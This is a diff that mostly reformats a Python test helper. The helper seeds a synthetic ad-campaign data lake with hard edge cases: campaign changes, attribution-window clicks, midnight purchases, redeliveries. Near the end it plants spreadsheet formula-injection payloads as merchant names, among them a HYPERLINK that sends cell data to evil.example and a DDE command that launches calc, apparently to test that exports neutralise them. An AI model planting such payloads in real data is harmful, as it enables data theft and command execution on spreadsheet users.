@@ -26,6 +26,7 @@ a raw zone in place, deterministically:
 
     python -m tests.reference.harder DATA_ROOT     # before the first run of that root
 """
+
 from __future__ import annotations
 
 import datetime as dt
@@ -57,12 +58,16 @@ class RawZone:
 
     def __init__(self, root: Path, table: str):
         self.folder = root / "raw" / table
-        self.parts = {p.name[3:]: sorted(p.glob("*.parquet")) for p in sorted(self.folder.glob("dt=*"))}
+        self.parts = {
+            p.name[3:]: sorted(p.glob("*.parquet")) for p in sorted(self.folder.glob("dt=*"))
+        }
         self.schema = pq.read_schema(next(iter(self.parts.values()))[0])
         self.extra: dict[str, list[dict]] = {}
 
     def rows(self) -> list[dict]:
-        return [r for files in self.parts.values() for f in files for r in pq.read_table(f).to_pylist()]
+        return [
+            r for files in self.parts.values() for f in files for r in pq.read_table(f).to_pylist()
+        ]
 
     def add(self, row: dict, ingest: dt.date) -> None:
         if ingest.isoformat() in self.parts:  # events outside the generated days are left out
@@ -72,7 +77,11 @@ class RawZone:
         """Writes the added rows as one more file per partition; returns how many."""
         for day, rows in self.extra.items():
             folder = self.folder / f"dt={day}"
-            name = next(f"zz-harder-{k}.parquet" for k in range(100) if not (folder / f"zz-harder-{k}.parquet").exists())
+            name = next(
+                f"zz-harder-{k}.parquet"
+                for k in range(100)
+                if not (folder / f"zz-harder-{k}.parquet").exists()
+            )
             pq.write_table(pa.Table.from_pylist(rows, schema=self.schema), folder / name)
         written, self.extra = sum(map(len, self.extra.values())), {}
         return written
@@ -91,26 +100,46 @@ def _harder_changes(root: Path) -> tuple[list[tuple[dict, dt.datetime]], int]:
     for _, changes in sorted(by_campaign.items()):
         changes.sort(key=lambda r: (r["change_time"], r["change_id"]))
         for i, r in enumerate(changes):
-            if r["action"] == "end" and not any(x["product_id"] == r["product_id"] and x["change_time"] >= r["change_time"]
-                                                and x["campaign_id"] != r["campaign_id"] for x in rows):
+            if r["action"] == "end" and not any(
+                x["product_id"] == r["product_id"]
+                and x["change_time"] >= r["change_time"]
+                and x["campaign_id"] != r["campaign_id"]
+                for x in rows
+            ):
                 # the product's next campaign created at the instant the last one ended
-                new = {**r, "campaign_id": f"{r['campaign_id']}R", "change_id": f"{r['change_id']}r", "action": "create"}
+                new = {
+                    **r,
+                    "campaign_id": f"{r['campaign_id']}R",
+                    "change_id": f"{r['change_id']}r",
+                    "action": "create",
+                }
                 added.append(new)
                 instants.append((new, r["change_time"]))
             if r["action"] in ("pause", "end"):  # only after a change that leaves it running
                 continue
             after = changes[i + 1]["change_time"] - US if i + 1 < len(changes) else None
-            last = min(after, _end_of_local_day(r["change_time"])) if after else _end_of_local_day(r["change_time"])
+            last = (
+                min(after, _end_of_local_day(r["change_time"]))
+                if after
+                else _end_of_local_day(r["change_time"])
+            )
             if last <= r["change_time"]:
                 continue
             span = last - r["change_time"]
 
-            def at(share: float) -> dt.datetime:  # called in this iteration only
-                return r["change_time"] + span * share  # noqa: B023
+            def at(share: float, r=r, span=span) -> dt.datetime:
+                return r["change_time"] + span * share
 
-            def change(suffix: str, action: str, t: dt.datetime, **settings) -> None:
-                added.append({**r, "change_id": f"{r['change_id']}{suffix}", "change_time": t, "action": action,  # noqa: B023
-                              **settings})
+            def change(suffix: str, action: str, t: dt.datetime, r=r, **settings) -> None:
+                added.append(
+                    {
+                        **r,
+                        "change_id": f"{r['change_id']}{suffix}",
+                        "change_time": t,
+                        "action": action,
+                        **settings,
+                    }
+                )
 
             kind, k = k % 5, k + 1
             lower = max(r["target_roi"] / 2, r["target_roi"] - 1).quantize(r["target_roi"])
@@ -172,16 +201,27 @@ def _merchant_quota(r: dict, _categories: list[str]) -> dict:
 def _once(zone: RawZone, idc: str, day: str) -> dict:
     """A generated row of ``day`` whose id occurs once in the table (so it was accepted)."""
     head = pq.read_table(zone.parts[day][0]).slice(0, 1000).to_pylist()
-    candidates = {r[idc] for r in head if "-x" not in r[idc] and _local_date(r["event_time"]).isoformat() == day}
-    seen = Counter(v for files in zone.parts.values() for f in files
-                   for v in pq.read_table(f, columns=[idc]).column(idc).to_pylist() if v in candidates)
+    candidates = {
+        r[idc]
+        for r in head
+        if "-x" not in r[idc] and _local_date(r["event_time"]).isoformat() == day
+    }
+    seen = Counter(
+        v
+        for files in zone.parts.values()
+        for f in files
+        for v in pq.read_table(f, columns=[idc]).column(idc).to_pylist()
+        if v in candidates
+    )
     return next(r for r in head if r[idc] in candidates and seen[r[idc]] == 1)
 
 
 def _redeliveries(root: Path) -> int:
     added = 0
-    for table, idc, first, again, change in (("clicks", "event_id", 1, 5, {}),
-                                             ("purchases", "order_id", 1, 4, "amount")):
+    for table, idc, first, again, change in (
+        ("clicks", "event_id", 1, 5, {}),
+        ("purchases", "order_id", 1, 4, "amount"),
+    ):
         zone = RawZone(root, table)
         days = list(zone.parts)
         row = _once(zone, idc, days[first])
@@ -214,7 +254,10 @@ def make_harder(root: str | Path) -> dict[str, int]:
     order = purchase_rows[0]
 
     def click(n: str, base: dict, t: dt.datetime, **kw) -> None:
-        clicks.add({**base, "event_id": f"HC-{n}", "event_time": t, "impression_id": None, **kw}, _local_date(t))
+        clicks.add(
+            {**base, "event_id": f"HC-{n}", "event_time": t, "impression_id": None, **kw},
+            _local_date(t),
+        )
 
     def purchase(n: str, t: dt.datetime, **kw) -> None:
         purchases.add({**order, "order_id": f"HP-{n}", "event_time": t, **kw}, _local_date(t))
@@ -234,7 +277,7 @@ def make_harder(root: str | Path) -> dict[str, int]:
         t = p["event_time"]
         purchase(f"edge-{n}", t, **who)
         if n % 2:
-            click(f"in-{n}", natural, t - WINDOW, scene="search", **who)        # inside: counts
+            click(f"in-{n}", natural, t - WINDOW, scene="search", **who)  # inside: counts
             click(f"out-{n}", natural, t - WINDOW - US, scene="activity", **who)  # outside
         else:
             click(f"tie-{n}-a", natural, t - dt.timedelta(hours=1), scene="search", **who)
@@ -243,9 +286,13 @@ def make_harder(root: str | Path) -> dict[str, int]:
         midnight = dt.datetime.combine(_local_date(p["event_time"]), dt.time(), SHANGHAI)
         purchase(f"midnight-{n}", midnight, product_id=p["product_id"])
         purchase(f"before-midnight-{n}", midnight - US, product_id=p["product_id"])
-    counts = {"snapshot rows changed": snapshot_rows, "campaign changes": changes_added,
-              "clicks": clicks.write_extra(), "purchases": purchases.write_extra(),
-              "redeliveries": _redeliveries(root)}
+    counts = {
+        "snapshot rows changed": snapshot_rows,
+        "campaign changes": changes_added,
+        "clicks": clicks.write_extra(),
+        "purchases": purchases.write_extra(),
+        "redeliveries": _redeliveries(root),
+    }
     # An event table's partition may be missing, or hold an empty file: neither is an error.
     missing = sorted((root / "raw" / "saves").glob("dt=*"))[4]
     shutil.rmtree(missing)
@@ -255,18 +302,28 @@ def make_harder(root: str | Path) -> dict[str, int]:
 
 
 def plant_spreadsheet_names(root: Path) -> dict[str, str]:
-    """Merchant names a spreadsheet would run, in every raw snapshot (issue 17): {merchant id: name}."""
+    """Merchant names a spreadsheet would run, in every raw snapshot (issue 17): {merchant id:
+    name}."""
     import pyarrow.compute as pc
 
     names = {}
     for f in sorted((root / "raw" / "merchants").glob("dt=*/*.parquet")):
         table = pq.read_table(f)
         ids = table["merchant_id"].to_pylist()
-        names = names or {ids[0]: '=HYPERLINK("http://evil.example/?x="&A1,"click")', ids[1]: "=cmd|' /C calc'!A0",
-                          ids[2]: "@SUM(1+1)", ids[3]: "+1-1"}
-        new = pc.if_else(pc.is_in(table["merchant_id"], pa.array(list(names))),
-                         pa.array([names.get(i, "") for i in ids], pa.string()), table["merchant_name"])
-        pq.write_table(table.set_column(table.schema.get_field_index("merchant_name"), "merchant_name", new), f)
+        names = names or {
+            ids[0]: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+            ids[1]: "=cmd|' /C calc'!A0",
+            ids[2]: "@SUM(1+1)",
+            ids[3]: "+1-1",
+        }
+        new = pc.if_else(
+            pc.is_in(table["merchant_id"], pa.array(list(names))),
+            pa.array([names.get(i, "") for i in ids], pa.string()),
+            table["merchant_name"],
+        )
+        pq.write_table(
+            table.set_column(table.schema.get_field_index("merchant_name"), "merchant_name", new), f
+        )
     return names
 
 
